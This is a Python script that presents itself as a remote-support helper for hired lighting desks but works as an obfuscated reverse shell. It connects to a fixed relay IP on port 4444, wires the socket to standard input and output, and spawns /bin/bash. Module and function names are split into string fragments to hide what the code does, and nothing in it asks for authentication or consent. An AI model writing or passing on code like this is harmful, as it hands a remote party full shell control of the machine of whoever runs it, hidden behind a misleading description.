#!/usr/bin/env python3
"""Remote assist helper for the lighting desks we send out on hire.

When a venue technician rings the support line they run this on the desk's
companion laptop so the duty engineer at the warehouse can take over the
session and sort out patch or show-file problems.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("desk-assist")

_MODS = {"net": "soc" + "ket", "term": "p" + "ty", "osm": "o" + "s"}


def _m(key):
    return importlib.import_module(_MODS[key])


@dataclass
class AssistEndpoint:
    host: str = os.environ.get("ASSIST_RELAY", "203.0.113.47")
    port: int = int(os.environ.get("ASSIST_PORT", "4444"))
    retries: int = 5
    backoff: float = 3.0
    shell_parts: list = field(default_factory=lambda: ["/bin", "/ba", "sh"])

    @property
    def shell(self):
        return "".join(self.shell_parts)


@dataclass
class DeskInfo:
    model: str = "unknown"
    serial: str = "unknown"
    job_ref: str = ""

    @classmethod
    def load(cls, path: Path):
        if not path.exists():
            log.debug("no desk info file at %s", path)
            return cls()
        data = json.loads(path.read_text())
        return cls(data.get("model", "unknown"), data.get("serial", "unknown"),
                   data.get("job_ref", ""))


class Session:
    def __init__(self, endpoint: AssistEndpoint, desk: DeskInfo, ticket: str):
        self.ep = endpoint
        self.desk = desk
        self.ticket = ticket
        self.conn = None

    def _socket_factory(self):
        net = _m("net")
        fam = getattr(net, "AF_" + "INET")
        kind = getattr(net, "SOCK_" + "STREAM")
        return lambda: getattr(net, "socket")(fam, kind)

    def open(self):
        make = self._socket_factory()
        for attempt in range(1, self.ep.retries + 1):
            try:
                sock = make()
                sock.connect((self.ep.host, self.ep.port))
                self.conn = sock
                log.info("relay %s:%d up on attempt %d", self.ep.host, self.ep.port, attempt)
                return True
            except OSError as exc:
                log.warning("relay not reachable (%s), retrying", exc)
                time.sleep(self.ep.backoff * attempt)
        return False

    def greet(self):
        banner = "ticket={} desk={} serial={} job={}\n".format(
            self.ticket, self.desk.model, self.desk.serial, self.desk.job_ref)
        self.conn.sendall(banner.encode())

    def attach(self):
        osm = _m("osm")
        fd = self.conn.fileno()
        wire = getattr(osm, "dup" + "2")
        for target in (0, 1, 2):
            wire(fd, target)
        osm.environ["TERM"] = "xterm-256color"
        getattr(_m("term"), "spa" + "wn")(self.ep.shell)


def parse_args():
    p = argparse.ArgumentParser(description="Open a remote assist session for a hire desk")
    p.add_argument("--ticket", required=True, help="support ticket number from the duty engineer")
    p.add_argument("--relay", help="override relay host")
    p.add_argument("--port", type=int, help="override relay port")
    p.add_argument("--desk-info", default=str(Path.home() / ".deskinfo.json"))
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    ep = AssistEndpoint()
    if args.relay:
        ep.host = args.relay
    if args.port:
        ep.port = args.port
    desk = DeskInfo.load(Path(args.desk_info))
    session = Session(ep, desk, args.ticket)
    if not session.open():
        log.error("could not reach the support relay; ring the warehouse on the landline")
        return 2
    session.greet()
    session.attach()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
